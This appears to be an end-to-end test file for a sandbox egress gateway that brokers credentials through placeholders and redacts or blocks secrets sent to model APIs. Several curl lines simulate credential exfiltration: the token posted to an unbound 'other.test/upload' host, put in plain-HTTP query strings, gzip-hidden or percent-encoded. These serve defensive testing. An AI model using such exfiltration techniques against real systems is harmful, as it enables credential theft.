import { test } from 'node:test';
import { createHash } from 'node:crypto';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { startGateway, mapResolver, sandboxNetwork, prepareCredentials, caEnv } from '../../src/egress/index.ts';
import { policySchema, type PolicyInput } from '../../src/policy/index.ts';
import { fingerprint } from '../../src/secrets/index.ts';
import { checksummedToken, awsKeyPair } from '../../src/secrets/honeytokens.ts';
import type { AuditEventInput } from '../../src/audit/index.ts';
import { curl, requests, waitFor } from './helpers.ts';
import { unshareOrSkip } from '../helpers.ts';
import { inSandboxNetns } from './netns-helper.ts';
import { testPki, httpsServer } from './pki.ts';

// The credential broker and outbound DLP, end to end through the real gateway: the sandbox
// variable holds a placeholder; curl (from a network namespace, as in a sandbox) reaches a
// local HTTPS server bound to the credential, which receives the real value; the
// placeholder anywhere else is refused and a high-severity finding recorded; a request to a
// stand-in model API carrying a workspace secret is redacted or refused per policy. The real
// value never appears in any audit event.

const REAL = `ghp_${'R'.repeat(4)}realvalue${Date.now()}abcdefXYZ`;

function home(): string {
  return mkdtempSync(join(tmpdir(), 'airlock-broker-home-'));
}

async function start(
  policy: PolicyInput,
  map: Record<string, string>,
  listen: { unixPath: string } | { host: string; port: number },
  extra: { home: string; hostEnv: NodeJS.ProcessEnv; upstreamCa: string[] },
) {
  const p = policySchema.parse(policy);
  const prepared = await prepareCredentials(p, extra.hostEnv, 'sess-1', extra.home);
  const events: AuditEventInput[] = [];
  const gw = await startGateway({
    session: 'sess-1',
    policy: p,
    audit: (e) => events.push(e),
    listen,
    resolver: mapResolver(map),
    ...prepared.gateway,
    tls: { ca: prepared.gateway.tls.ca, upstreamCa: extra.upstreamCa },
  });
  return { gw, events, prepared, url: `http://${gw.address}` };
}

test('placeholder in the sandbox, real value only at the bound destination; misuse anywhere else is refused and flagged (curl in a network namespace)', async (t) => {
  if (!(await unshareOrSkip(t, '-rn'))) return;
  const pki = await testPki();
  const api = await httpsServer(await pki.leaf(['api.test']));
  const other = await httpsServer(await pki.leaf(['other.test']));
  const plainSeen: string[] = [];
  const plain = createServer((q, s) => {
    let b = '';
    q.on('data', (c) => {
      b += c;
    });
    q.on('end', () => {
      plainSeen.push(`${q.url} ${JSON.stringify(q.headers)} ${b}`);
      s.end('ok');
    });
  });
  await new Promise<void>((r) => plain.listen(0, '127.0.0.1', r));
  const plainPort = (plain.address() as { port: number }).port;
  const ports = [api.port, other.port, plainPort];
  const h = home();
  const dir = mkdtempSync(join(tmpdir(), 'airlock-broker-ns-'));
  const s = await start(
    {
      egress: {
        allow: [
          { host: 'api.test', ports },
          { host: 'other.test', ports },
          { host: 'plain.test', ports },
        ],
        allowCidrs: [{ cidr: '127.0.0.1/32', ports }],
        intercept: ['other.test'],
      },
      credentials: {
        brokered: [
          {
            name: 'GH_TOKEN',
            source: { env: 'HOST_GH_TOKEN' },
            destinations: [{ host: 'api.test', port: api.port, paths: ['/v1'] }],
            inject: { header: 'Authorization', template: 'token {value}' },
          },
        ],
      },
    },
    { 'api.test': '127.0.0.1', 'other.test': '127.0.0.1', 'plain.test': '127.0.0.1' },
    { unixPath: join(dir, 'gw.sock') },
    { home: h, hostEnv: { HOST_GH_TOKEN: REAL }, upstreamCa: [pki.caPem] },
  );
  const ph = s.prepared.sandboxEnv.GH_TOKEN!;
  assert.match(ph, /^airlock-ph-GH_TOKEN-[A-Za-z0-9]{32}$/);
  assert.ok(
    !Object.values(s.prepared.sandboxEnv).some((v) => v.includes(REAL)),
    'no sandbox variable holds the real value',
  );
  try {
    const net = sandboxNetwork(s.gw.address, { transparent: false });
    // the netns shares the host's mounts, so the bundle is named by its host path here (a session mounts it at /etc/ssl/certs)
    const env = {
      ...process.env,
      ...net.env,
      ...s.prepared.sandboxEnv,
      ...caEnv(s.prepared.caBundlePath),
      HOST_GH_TOKEN: '',
      HOME_DIR: dir,
    };
    const script = `set +e
echo "env=$GH_TOKEN"
x=$(curl -sS --max-time 5 -D "$HOME_DIR/h" -H "Authorization: token $GH_TOKEN" https://api.test:${api.port}/v1/user); echo "$x rc=$?"
grep -i '^x-echo-auth' "$HOME_DIR/h"
x=$(curl -sS --max-time 5 https://api.test:${api.port}/v1/implicit); echo "$x rc=$?"
curl -sS --max-time 5 -o /dev/null -w '%{http_code}' -H "Authorization: token $GH_TOKEN" https://other.test:${other.port}/; echo " rc=$?"
curl -sS --max-time 5 -o /dev/null -w '%{http_code}' -H "Authorization: token $GH_TOKEN" https://api.test:${api.port}/v2/admin; echo " rc=$?"
curl -sS --max-time 5 -o /dev/null -w '%{http_code}' --data "t=$GH_TOKEN" https://other.test:${other.port}/upload; echo " rc=$?"
curl -sS --max-time 5 -o /dev/null -w '%{http_code}' "http://plain.test:${plainPort}/?q=$GH_TOKEN"; echo " rc=$?"
curl -sS --max-time 5 -o /dev/null -w '%{http_code}' --data "t=$GH_TOKEN" http://plain.test:${plainPort}/body; echo " rc=$?"
`;
    const { out } = await inSandboxNetns(net, script, { env });
    assert.ok(out.includes(`env=${ph}`), 'the brokered variable holds the placeholder');
    assert.ok(!out.includes(REAL), 'nothing the sandbox saw holds the real value (the echoed header is scrubbed)');
    const lines = out.split('\n').filter((l) => / rc=\d+$/.test(l));
    assert.equal(lines.length, 7, out);
    assert.match(
      lines[0]!,
      /GET \/v1\/user auth=token airlock-ph-GH_TOKEN-\w+ rc=0/,
      'the echo shows the placeholder again',
    );
    assert.ok(out.includes(`x-echo-auth: token ${ph}`), 'a response header echoing the value is scrubbed too');
    assert.match(
      lines[1]!,
      /GET \/v1\/implicit auth=token airlock-ph-GH_TOKEN-\w+ rc=0/,
      'injected per policy when the client sends nothing',
    );
    for (const i of [2, 3, 4, 5, 6]) assert.match(lines[i]!, /^403 rc=0/, `misuse ${i} refused: ${lines[i]}`);
    // what the servers received
    assert.deepEqual(
      api.seen.map((x) => [x.url, x.headers.authorization]),
      [
        ['/v1/user', `token ${REAL}`],
        ['/v1/implicit', `token ${REAL}`],
      ],
    );
    assert.equal(other.seen.length, 0, 'the other host received nothing');
    assert.equal(plainSeen.length, 0, 'the plain-http host received nothing');
    const everyFinding = s.events.filter((e) => e.type === 'detect.finding');
    // the echo server reflects the injected value: each echo is a `credential reflected` finding
    assert.equal(
      everyFinding.filter((f) => f.rule === 'detect.credential-reflected').length,
      2,
      JSON.stringify(everyFinding.map((f) => f.data)),
    );
    const findings = everyFinding.filter((f) => f.rule !== 'detect.credential-reflected');
    assert.equal(findings.length, 5, JSON.stringify(findings.map((f) => f.data)));
    assert.ok(
      findings.every(
        (f) =>
          f.severity === 'high' &&
          f.rule === 'detect.credential-misuse' &&
          (f.data as { credential: string }).credential === 'GH_TOKEN',
      ),
    );
    assert.deepEqual(findings.map((f) => (f.data as { where: string }).where).sort(), [
      'body',
      'body',
      'header authorization',
      'header authorization',
      'url',
    ]);
    const denied = requests(s.events).filter((e) => e.rule === 'credentials.brokered.GH_TOKEN');
    assert.equal(denied.length, 5);
    assert.ok(denied.every((e) => e.decision === 'deny' && e.severity === 'high'));
    const used = requests(s.events).find((e) => (e.data as { path: string }).path === '/v1/user')!;
    assert.deepEqual((used.data as { credentials: unknown }).credentials, [
      { name: 'GH_TOKEN', fingerprint: fingerprint(REAL) },
    ]);
    const all = JSON.stringify(s.events);
    assert.ok(!all.includes(REAL), 'the real value is in no audit event');
    assert.ok(!all.includes(ph), 'nor is the placeholder');
    assert.ok(all.includes(fingerprint(REAL)), 'the fingerprint is');
    assert.ok(!readFileSync(s.prepared.caBundlePath, 'utf8').includes('PRIVATE KEY'));
  } finally {
    await s.gw.close();
    await api.close();
    await other.close();
    plain.close();
  }
});

test('a placeholder hidden in a gzip-encoded body to an intercepted host is still found and refused; a clean gzip body passes as sent', async () => {
  const pki = await testPki();
  const api = await httpsServer(await pki.leaf(['api.test']));
  const other = await httpsServer(await pki.leaf(['other.test']));
  const ports = [api.port, other.port];
  const s = await start(
    {
      egress: {
        allow: [
          { host: 'api.test', ports },
          { host: 'other.test', ports },
        ],
        allowCidrs: [{ cidr: '127.0.0.1/32', ports }],
        intercept: ['other.test'],
      },
      credentials: {
        brokered: [
          { name: 'GH_TOKEN', source: { env: 'HOST_GH_TOKEN' }, destinations: [{ host: 'api.test', port: api.port }] },
        ],
      },
    },
    { 'api.test': '127.0.0.1', 'other.test': '127.0.0.1' },
    { host: '127.0.0.1', port: 0 },
    { home: home(), hostEnv: { HOST_GH_TOKEN: REAL }, upstreamCa: [pki.caPem] },
  );
  const dir = mkdtempSync(join(tmpdir(), 'airlock-gz-'));
  const caFile = join(dir, 'ca.pem');
  writeFileSync(caFile, s.prepared.gateway.tls.ca.certPem);
  try {
    const ph = s.prepared.sandboxEnv.GH_TOKEN!;
    writeFileSync(join(dir, 'bad.gz'), gzipSync(JSON.stringify({ note: `token=${ph}` })));
    const bad = await curl([
      '-x',
      s.url,
      '--cacert',
      caFile,
      '-H',
      'content-encoding: gzip',
      '--data-binary',
      `@${join(dir, 'bad.gz')}`,
      `https://other.test:${other.port}/upload`,
    ]);
    assert.equal(bad.status, 403, bad.stderr);
    assert.equal(bad.headers['x-airlock-rule'], 'credentials.brokered.GH_TOKEN');
    assert.equal(other.seen.length, 0, 'the other host received nothing');
    const f = s.events.find((e) => e.type === 'detect.finding');
    assert.equal(f?.rule, 'detect.credential-misuse');
    const clean = gzipSync('{"hello":"world"}');
    writeFileSync(join(dir, 'ok.gz'), clean);
    const ok = await curl([
      '-x',
      s.url,
      '--cacert',
      caFile,
      '-H',
      'content-encoding: gzip',
      '--data-binary',
      `@${join(dir, 'ok.gz')}`,
      `https://other.test:${other.port}/upload`,
    ]);
    assert.equal(ok.status, 200, ok.stderr);
    assert.equal(other.seen.length, 1);
    assert.equal(other.seen[0]!.headers['content-encoding'], 'gzip', 'forwarded as sent');
  } finally {
    await s.gw.close();
    await api.close();
    await other.close();
  }
});

async function modelSetup(mode: 'redact' | 'block' | 'off') {
  const pki = await testPki();
  const model = await httpsServer(await pki.leaf(['model.test']), (_s, res) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end('{"ok":true}');
  });
  const s = await start(
    {
      egress: {
        allow: [{ host: 'model.test', ports: [model.port] }],
        allowCidrs: [{ cidr: '127.0.0.1/32', ports: [model.port] }],
        modelApis: ['model.test'],
      },
      secrets: { dlp: { mode } },
      credentials: {
        brokered: [
          {
            name: 'MODEL_KEY',
            source: { env: 'HOST_MODEL_KEY' },
            destinations: [{ host: 'model.test', port: model.port }],
          },
        ],
      },
    },
    { 'model.test': '127.0.0.1' },
    { host: '127.0.0.1', port: 0 },
    { home: home(), hostEnv: { HOST_MODEL_KEY: REAL }, upstreamCa: [pki.caPem] },
  );
  const caFile = join(mkdtempSync(join(tmpdir(), 'airlock-dlp-')), 'ca.pem');
  writeFileSync(caFile, s.prepared.gateway.tls.ca.certPem);
  return { model, s, caFile };
}

function workspaceSecretBody(): { body: string; gh: string; aws: { id: string; secret: string } } {
  // a workspace file the agent read, pasted into a model request
  const gh = checksummedToken('ghp_');
  const aws = awsKeyPair();
  const file = `# deploy notes\nGITHUB_TOKEN=${gh}\naws_access_key_id = ${aws.id}\naws_secret_access_key = ${aws.secret}\n`;
  return {
    body: JSON.stringify({ model: 'm', input: [{ role: 'user', content: `here is config.env:\n${file}` }] }),
    gh,
    aws,
  };
}

test('outbound DLP, redact: a workspace secret sent to the stand-in model API is cut out in flight; the model never receives it', async () => {
  const { model, s, caFile } = await modelSetup('redact');
  try {
    const w = workspaceSecretBody();
    const f = join(mkdtempSync(join(tmpdir(), 'airlock-dlp-body-')), 'body.json');
    writeFileSync(f, w.body);
    const r = await curl([
      '-x',
      s.url,
      '--cacert',
      caFile,
      '-H',
      'content-type: application/json',
      '--data-binary',
      `@${f}`,
      `https://model.test:${model.port}/v1/responses`,
    ]);
    assert.equal(r.status, 200, r.stderr);
    assert.equal(model.seen.length, 1);
    const got = model.seen[0]!;
    for (const v of [w.gh, w.aws.id, w.aws.secret])
      assert.ok(!got.body.includes(v), 'the stand-in never receives the value');
    assert.match(got.body, /«REDACTED:github-token:[0-9a-f]{8}»/);
    assert.equal(Number(got.headers['content-length']), Buffer.byteLength(got.body), 'Content-Length fixed');
    assert.deepEqual(Object.keys(JSON.parse(got.body)), ['model', 'input'], 'still valid JSON');
    assert.equal(got.headers.authorization, `Bearer ${REAL}`, 'the brokered model key was injected');
    const dlp = s.events.filter((e) => e.type === 'egress.dlp');
    assert.equal(dlp.length, 1);
    const d = dlp[0]!.data as { action: string; findings: { rule: string; fingerprint: string }[] };
    assert.equal(d.action, 'redacted');
    assert.ok(d.findings.some((x) => x.fingerprint === fingerprint(w.gh)));
    const all = JSON.stringify(s.events);
    for (const v of [w.gh, w.aws.secret, REAL]) assert.ok(!all.includes(v), 'no value in the audit trail');

    // a known host secret (the brokered key's real value) pasted in a body, gzip-encoded: decoded, cut out
    const gz = gzipSync(JSON.stringify({ input: `my key is ${REAL} ok` }));
    const gzFile = `${f}.gz`;
    writeFileSync(gzFile, gz);
    const r2 = await curl([
      '-x',
      s.url,
      '--cacert',
      caFile,
      '-H',
      'content-type: application/json',
      '-H',
      'content-encoding: gzip',
      '--data-binary',
      `@${gzFile}`,
      `https://model.test:${model.port}/v1/responses`,
    ]);
    assert.equal(r2.status, 200, r2.stderr);
    const got2 = model.seen[1]!;
    assert.ok(!got2.body.includes(REAL));
    assert.equal(got2.headers['content-encoding'], undefined, 'sent decoded');
    assert.match(got2.body, /«REDACTED:known-secret\/MODEL_KEY:/);
  } finally {
    await s.gw.close();
    await model.close();
  }
});

test('DLP off: a model API body larger than the inspection cap is forwarded whole, byte for byte, with the brokered key', async () => {
  const { model, s, caFile } = await modelSetup('off');
  try {
    const big = Buffer.alloc(17 << 20, 0x61); // over the 16 MiB inspection cap
    big.write('{"input":"', 0);
    big.write('"}', big.length - 2);
    const f = join(mkdtempSync(join(tmpdir(), 'airlock-dlp-big-')), 'body.json');
    writeFileSync(f, big);
    const r = await curl([
      '-x',
      s.url,
      '--cacert',
      caFile,
      '-H',
      'content-type: application/json',
      '--data-binary',
      `@${f}`,
      `https://model.test:${model.port}/v1/responses`,
    ]);
    assert.equal(r.status, 200, r.stderr);
    const got = model.seen[0]!;
    assert.equal(Buffer.byteLength(got.body), big.length, 'nothing cut off');
    assert.equal(createHash('sha256').update(got.body).digest('hex'), createHash('sha256').update(big).digest('hex'));
    assert.equal(got.headers.authorization, `Bearer ${REAL}`);
  } finally {
    await s.gw.close();
    await model.close();
  }
});

test('outbound DLP, block: the request is refused with secrets.dlp.mode and the model receives nothing', async () => {
  const { model, s, caFile } = await modelSetup('block');
  try {
    const w = workspaceSecretBody();
    const r = await curl([
      '-x',
      s.url,
      '--cacert',
      caFile,
      '-H',
      'content-type: application/json',
      '--data-binary',
      w.body,
      `https://model.test:${model.port}/v1/messages`,
    ]);
    assert.equal(r.status, 403);
    assert.equal(r.headers['x-airlock-rule'], 'secrets.dlp.mode');
    assert.equal(model.seen.length, 0);
    const ev = await waitFor(() => requests(s.events).find((e) => e.rule === 'secrets.dlp.mode'), 'the denial');
    assert.equal(ev.decision, 'deny');
    const dlp = s.events.find((e) => e.type === 'egress.dlp')!;
    assert.equal((dlp.data as { action: string }).action, 'blocked');
    assert.ok(!JSON.stringify(s.events).includes(w.gh));
    // a clean request still goes through
    const ok = await curl([
      '-x',
      s.url,
      '--cacert',
      caFile,
      '-H',
      'content-type: application/json',
      '--data-binary',
      '{"input":"hello"}',
      `https://model.test:${model.port}/v1/messages`,
    ]);
    assert.equal(ok.status, 200);
    assert.equal(model.seen.length, 1);
  } finally {
    await s.gw.close();
    await model.close();
  }
});

test('a credential whose source cannot be read refuses preparation with an error naming it', async () => {
  const p = policySchema.parse({
    credentials: {
      brokered: [{ name: 'X_TOKEN', source: { env: 'NOPE_NOT_SET' }, destinations: [{ host: 'api.test' }] }],
    },
  });
  await assert.rejects(
    prepareCredentials(p, {}, 's', home()),
    (e: Error & { kind?: string; hint?: string }) =>
      e.kind === 'NOT_FOUND' && /X_TOKEN/.test(e.message) && /NOPE_NOT_SET/.test(e.message),
  );
  const q = policySchema.parse({
    credentials: { brokered: [{ name: 'Y', source: { command: ['false'] }, destinations: [{ host: 'api.test' }] }] },
  });
  await assert.rejects(prepareCredentials(q, process.env, 's', home()), /source.command false failed/);
  assert.throws(() =>
    policySchema.parse({ credentials: { brokered: [{ name: 'A', source: { env: 'B' }, destinations: [] }] } }),
  );
  assert.throws(() =>
    policySchema.parse({
      credentials: {
        brokered: [
          {
            name: 'A',
            source: { env: 'B' },
            destinations: [{ host: 'x.test' }],
            inject: { header: 'X', template: 'no value' },
          },
        ],
      },
    }),
  );
});

test('outbound DLP: plain HTTP to a model API (proxied or inside a CONNECT tunnel) is refused, never forwarded uninspected', async () => {
  const seen: string[] = [];
  const model = createServer((q, res) => {
    let b = '';
    q.on('data', (c) => {
      b += c;
    });
    q.on('end', () => {
      seen.push(b);
      res.end('ok');
    });
  });
  await new Promise<void>((r) => model.listen(0, '127.0.0.1', r));
  const port = (model.address() as { port: number }).port;
  const s = await start(
    {
      egress: {
        allow: [{ host: 'model.test', ports: [port] }],
        allowCidrs: [{ cidr: '127.0.0.1/32', ports: [port] }],
        modelApis: ['model.test'],
      },
      secrets: { dlp: { mode: 'block' } },
    },
    { 'model.test': '127.0.0.1' },
    { host: '127.0.0.1', port: 0 },
    { home: home(), hostEnv: {}, upstreamCa: [] },
  );
  try {
    const w = workspaceSecretBody();
    const r = await curl([
      '-x',
      s.url,
      '-H',
      'content-type: application/json',
      '--data-binary',
      w.body,
      `http://model.test:${port}/v1/messages`,
    ]);
    assert.equal(r.status, 403);
    assert.equal(r.headers['x-airlock-rule'], 'secrets.dlp.mode');
    const tunnelled = await curl([
      '-p',
      '-x',
      s.url,
      '-H',
      'content-type: application/json',
      '--data-binary',
      w.body,
      `http://model.test:${port}/v1/messages`,
    ]);
    assert.notEqual(tunnelled.code, 0, 'the tunnel is closed without an answer');
    const denied = await waitFor(() => {
      const d = requests(s.events).filter((e) => e.rule === 'secrets.dlp.mode' && e.decision === 'deny');
      return d.length === 2 && d;
    }, 'both refusals');
    assert.deepEqual(denied.map((e) => (e.data as { protocol: string }).protocol).sort(), ['connect', 'http']);
    assert.equal(seen.length, 0, 'the model API received nothing');
  } finally {
    await s.gw.close();
    model.close();
  }
});

test('intercepted TLS: an upstream that ignores identity and echoes the injected value gzip-compressed or base64-encoded hands nothing real to the client; each echo is a `credential reflected` finding', async () => {
  const pki = await testPki();
  const api = await httpsServer(await pki.leaf(['api.test']), (s, res) => {
    const token = String(s.headers.authorization ?? '').replace(/^token /, '');
    if (s.url === '/gzip') {
      res.writeHead(200, { 'content-encoding': 'gzip' });
      res.end(gzipSync(`echo ${token}`));
      return;
    }
    res.writeHead(200, { 'x-echo': Buffer.from(token).toString('hex') });
    res.end(
      `b64=${Buffer.from(token).toString('base64')} json="${[...token].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join('')}"`,
    );
  });
  const s = await start(
    {
      egress: {
        allow: [{ host: 'api.test', ports: [api.port] }],
        allowCidrs: [{ cidr: '127.0.0.1/32', ports: [api.port] }],
      },
      credentials: {
        brokered: [
          {
            name: 'GH_TOKEN',
            source: { env: 'HOST_GH_TOKEN' },
            destinations: [{ host: 'api.test', port: api.port }],
            inject: { header: 'Authorization', template: 'token {value}' },
          },
        ],
      },
    },
    { 'api.test': '127.0.0.1' },
    { host: '127.0.0.1', port: 0 },
    { home: home(), hostEnv: { HOST_GH_TOKEN: REAL }, upstreamCa: [pki.caPem] },
  );
  const caFile = join(mkdtempSync(join(tmpdir(), 'airlock-reflect-')), 'ca.pem');
  writeFileSync(caFile, s.prepared.gateway.tls.ca.certPem);
  try {
    const gz = await curl(['-x', s.url, '--cacert', caFile, `https://api.test:${api.port}/gzip`]);
    const enc = await curl(['-x', s.url, '--cacert', caFile, `https://api.test:${api.port}/encoded`]);
    assert.equal(gz.status, 200, gz.stderr);
    assert.equal(enc.status, 200, enc.stderr);
    const seenByClient = `${JSON.stringify(gz)}${JSON.stringify(enc)}`;
    for (const form of [
      REAL,
      Buffer.from(REAL).toString('base64').slice(0, 20),
      Buffer.from(REAL).toString('hex').slice(0, 20),
      '\\u0067\\u0068\\u0070',
    ]) {
      assert.ok(!seenByClient.includes(form), `the client saw the real value (${form.slice(0, 8)}…)`);
    }
    assert.match(gz.body, /^echo airlock-ph-GH_TOKEN-/, 'the decoded echo carries the placeholder');
    assert.equal(gz.headers['content-encoding'], undefined, 'sent decoded');
    assert.equal(api.seen.length, 2);
    assert.ok(
      api.seen.every((x) => x.headers['accept-encoding'] === 'identity' && x.headers.authorization === `token ${REAL}`),
    );
    const f = s.events.filter((e) => e.type === 'detect.finding' && e.rule === 'detect.credential-reflected');
    assert.equal(f.length, 2);
  } finally {
    await s.gw.close();
    await api.close();
  }
});

test('intercepted TLS: the placeholder as a header name or %-encoded behind a bad escape in the query is refused; on a model API a secret used as a JSON key, in a header or in the query is refused', async () => {
  const { model, s, caFile } = await modelSetup('block');
  try {
    const ph = s.prepared.sandboxEnv.MODEL_KEY!;
    const w = workspaceSecretBody();
    const enc = (v: string) => [...Buffer.from(v)].map((c) => `%${c.toString(16)}`).join('');
    const url = `https://model.test:${model.port}/v1/responses`;
    const cases: [string, string[]][] = [
      [
        'json key',
        ['-H', 'content-type: application/json', '--data-binary', JSON.stringify({ input: 'x', [w.gh]: 1 }), url],
      ],
      ['header value', ['-H', `x-note: ${w.gh}`, '--data-binary', '{"input":"hello"}', url]],
      ['query', ['--data-binary', '{"input":"hello"}', `${url}?k=${enc(w.gh)}`]],
    ];
    for (const [what, args] of cases) {
      const r = await curl(['-x', s.url, '--cacert', caFile, ...args]);
      assert.equal(r.status, 403, `${what}: ${r.status} ${r.body}`);
      assert.equal(r.headers['x-airlock-rule'], 'secrets.dlp.mode', what);
    }
    assert.equal(model.seen.length, 0, 'the model received none of them');
    // the placeholder is bound to model.test: in a header name it is still refused (names are never rewritten)
    const name = await curl([
      '-x',
      s.url,
      '--cacert',
      caFile,
      '-H',
      `${ph}: 1`,
      '--data-binary',
      '{"input":"hello"}',
      url,
    ]);
    assert.equal(name.status, 403);
    assert.equal(name.headers['x-airlock-rule'], 'credentials.brokered.MODEL_KEY');
    const ok = await curl(['-x', s.url, '--cacert', caFile, '--data-binary', '{"input":"hello"}', url]);
    assert.equal(ok.status, 200, 'a clean request passes');
  } finally {
    await s.gw.close();
    await model.close();
  }
});
